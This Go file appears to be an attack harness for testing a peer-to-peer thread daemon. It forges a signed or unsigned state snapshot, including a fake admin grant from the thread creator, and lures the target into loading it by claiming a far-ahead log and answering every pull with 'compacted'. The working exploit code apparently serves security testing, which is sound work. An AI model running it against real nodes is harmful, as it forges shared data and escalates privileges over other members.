package main

import (
	"context"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"strings"
	"time"

	"github.com/ipfs/go-cid"
	"github.com/libp2p/go-libp2p/core/peer"
	mh "github.com/multiformats/go-multihash"

	"github.com/kubo-threads/kubo-threads/codec"
	"github.com/kubo-threads/kubo-threads/ipel"
	"github.com/kubo-threads/kubo-threads/views"
)

// forge-snapshot: a reader makes a snapshot of state no writer wrote (a
// key/value of its choosing; in an access-controlled thread, an admin
// grant for itself by the creator), signs it with its own identity, and
// tries to get a daemon to load it:
//
//   - it tells the target that it holds a log far ahead of the target (1000
//     events past the target's head), and answers every pull of that log
//     with "compacted", as a member that compacted would;
//   - it serves its forged snapshot to whoever asks for it;
//   - with -invite-for, it prints an invite of its own to another peer, so
//     that peer joins through it (the join entry point).
//
// It reports every request it receives ("asked <type> by <peer>"): a daemon
// that never loads a snapshot outside a join that asked for one never
// sends "snapshot" or "blocks" requests here.

func init() {
	register("forge-snapshot", "answer pulls with 'compacted' and serve a forged signed snapshot: -key -invite -target [-kv k=v] [-admin] [-unsigned] [-invite-for peer] [-for 60s]", runForgeSnapshot)
}

func runForgeSnapshot(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("forge-snapshot", flag.ContinueOnError)
	keyFile := fs.String("key", "", "the attacker's identity key file (created if missing)")
	invite := fs.String("invite", "", "the invite the target's node made for the attacker's peer ID")
	target := fs.String("target", "", "the daemon to attack: /ip4/.../tcp/.../p2p/<peer-id>")
	kv := fs.String("kv", "", "a forged key/value, key=value")
	admin := fs.Bool("admin", false, "forge the creator's grant of admin and delete to the attacker (access-controlled threads)")
	unsigned := fs.Bool("unsigned", false, "seal the snapshot unsigned, as the previous version did")
	inviteFor := fs.String("invite-for", "", "also print an invite of the attacker's own to this peer ID")
	listen := fs.String("listen", "/ip4/127.0.0.1/tcp/0", "the attacker's listen address")
	logFlag := fs.String("log", "", "the log to claim ahead (default: the first log the invite names)")
	runFor := fs.Duration("for", time.Minute, "how long to keep at it")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *invite == "" || *target == "" {
		return errors.New("-invite and -target are required")
	}
	sk, err := loadKey(*keyFile)
	if err != nil {
		return err
	}
	m, err := newMember(sk, *listen, *invite)
	if err != nil {
		return err
	}
	defer m.close()
	if m.read == nil {
		return errors.New("the invite carries no read key: a reader's invite is needed to forge a snapshot")
	}
	m.announceSelf()
	ctx, cancel := context.WithTimeout(ctx, *runFor)
	defer cancel()
	victim, err := m.connect(ctx, *target)
	if err != nil {
		return err
	}
	logID := ipel.LogID(*logFlag)
	if logID == "" {
		logs := m.inviteLogs()
		if len(logs) == 0 {
			return errors.New("the invite names no log: pass -log")
		}
		logID = logs[0]
	}
	// Claim the log 1000 events past where the target holds it.
	resp, err := m.request(ctx, victim, &codec.Message{Type: codec.MsgHeads})
	if err != nil {
		return fmt.Errorf("heads of %s: %w", victim, err)
	}
	var claimed uint64 = 1000
	for _, h := range resp.Heads {
		if ipel.LogID(h.Log) == logID {
			claimed += h.Seq
		}
	}
	f, err := m.forge(logID, claimed, *kv, *admin, *unsigned)
	if err != nil {
		return err
	}
	m.report("forged %s claiming log %s at %d", f.rootCid, logID, claimed)
	m.serve(f.answer(m))
	if *inviteFor != "" {
		to, err := peer.Decode(*inviteFor)
		if err != nil {
			return fmt.Errorf("-invite-for: %w", err)
		}
		text, err := m.inviteFor(to)
		if err != nil {
			return err
		}
		m.report("invite %s", text)
	}
	// Nudge the target: "I am ahead"; it syncs, pulls, gets "compacted".
	heads := []codec.Head{{Log: []byte(logID), Seq: claimed}}
	t := time.NewTicker(time.Second)
	defer t.Stop()
	for {
		if _, err := m.request(ctx, victim, &codec.Message{Type: codec.MsgHeads, Heads: heads}); err == nil {
			m.report("nudged %s", victim)
		}
		select {
		case <-ctx.Done():
			m.report("done")
			return nil
		case <-t.C:
		}
	}
}

// forge makes the snapshot: the entries the flags ask for, at a cursor
// that puts the log at claimed (an event CID no writer signed), signed by
// the attacker (or not at all).
func (m *member) forge(logID ipel.LogID, claimed uint64, kv string, admin, unsigned bool) (*forgedSnapshot, error) {
	self := m.host.ID()
	fake, err := cid.Prefix{Version: 1, Codec: codec.EventCodec, MhType: mh.SHA2_256, MhLength: -1}.Sum([]byte("forged event " + self.String()))
	if err != nil {
		return nil, err
	}
	version := views.Version{Clock: codec.Clock{Wall: time.Now().Add(24 * time.Hour).UnixNano()}, Log: []byte(self), Seq: claimed}
	var entries []codec.SnapshotEntry
	if kv != "" {
		k, v, ok := strings.Cut(kv, "=")
		if !ok || k == "" {
			return nil, fmt.Errorf("-kv %q: want key=value", kv)
		}
		b, err := codec.Marshal(&views.KVEntry{Value: []byte(v), Version: version})
		if err != nil {
			return nil, err
		}
		entries = append(entries, codec.SnapshotEntry{Key: "/kv/" + strings.TrimPrefix(k, "/"), Value: b})
	}
	if admin {
		creator := peer.ID(m.inv.Creator)
		if creator == "" {
			return nil, errors.New("-admin: the thread is not access-controlled (its invite names no creator)")
		}
		for i, op := range []views.ACLOp{
			{Kind: views.ACLSetRole, Peer: self.String(), Role: views.RoleDelete, From: 1},
			{Kind: views.ACLSetAdmin, Peer: self.String(), Admin: true, From: 1},
		} {
			e, err := aclEntry(creator, op, i)
			if err != nil {
				return nil, err
			}
			entries = append(entries, e)
		}
	}
	if len(entries) == 0 {
		return nil, errors.New("nothing to forge: pass -kv and/or -admin")
	}
	meta := codec.SnapshotMeta{Thread: m.thread.Bytes(), Cursor: []codec.SnapshotCursor{{Log: []byte(logID), Seq: claimed, Cid: fake.Bytes()}}}
	signer := m.sk
	if unsigned {
		signer = nil
	}
	root, pages, err := codec.SealSnapshot(m.read, meta, entries, signer)
	if err != nil {
		return nil, err
	}
	out := &forgedSnapshot{log: logID, claimed: claimed, rootCid: root.Cid(), rootData: root.RawData(), pages: map[cid.Cid][]byte{}}
	for _, p := range pages {
		out.pages[p.Cid()] = p.RawData()
	}
	return out, nil
}

// aclRecord is how the views store an ACL operation with the event that
// carried it (and how a snapshot carries it): here, as if the creator's
// first event had made it.
type aclRecord struct {
	Op      views.ACLOp   `cbor:"o"`
	Author  string        `cbor:"a"`
	Seq     uint64        `cbor:"s"`
	Version views.Version `cbor:"w"`
}

func aclEntry(creator peer.ID, op views.ACLOp, index int) (codec.SnapshotEntry, error) {
	v := views.Version{Clock: codec.Clock{Wall: 1}, Log: []byte(creator), Seq: 1, Index: index}
	b, err := codec.Marshal(&aclRecord{Op: op, Author: creator.String(), Seq: 1, Version: v})
	if err != nil {
		return codec.SnapshotEntry{}, err
	}
	key := fmt.Sprintf("/acl/%016x%08x%s%016x%08x", uint64(v.Clock.Wall), v.Clock.Counter, hex.EncodeToString(v.Log), v.Seq, v.Index)
	return codec.SnapshotEntry{Key: key, Value: b}, nil
}

// forgedSnapshot is the forged snapshot and the log it claims.
type forgedSnapshot struct {
	log      ipel.LogID
	claimed  uint64
	rootCid  cid.Cid
	rootData []byte
	pages    map[cid.Cid][]byte
}

// answer answers as a member that compacted the claimed log would, with
// the forged snapshot for whoever asks.
func (f *forgedSnapshot) answer(m *member) func(peer.ID, *codec.Message) *codec.Message {
	return func(from peer.ID, msg *codec.Message) *codec.Message {
		switch msg.Type {
		case codec.MsgHeads:
			return &codec.Message{Type: codec.MsgHeads, Heads: []codec.Head{{Log: []byte(f.log), Seq: f.claimed}}}
		case codec.MsgPull:
			m.report("answered compacted %s from %d to %s", ipel.LogID(msg.Log), msg.From, from)
			return &codec.Message{Type: codec.MsgCompacted, Log: msg.Log, From: max(msg.From, 1) + 1000}
		case codec.MsgSnapshot:
			return &codec.Message{Type: codec.MsgSnapshot, Root: f.rootCid.Bytes(), Blocks: [][]byte{f.rootData}}
		case codec.MsgBlocks:
			out := &codec.Message{Type: codec.MsgBlocks}
			for _, b := range msg.Cids {
				c, err := cid.Cast(b)
				if err != nil || f.pages[c] == nil {
					return nil
				}
				out.Blocks = append(out.Blocks, f.pages[c])
			}
			return out
		default:
			return &codec.Message{Type: codec.MsgOK}
		}
	}
}
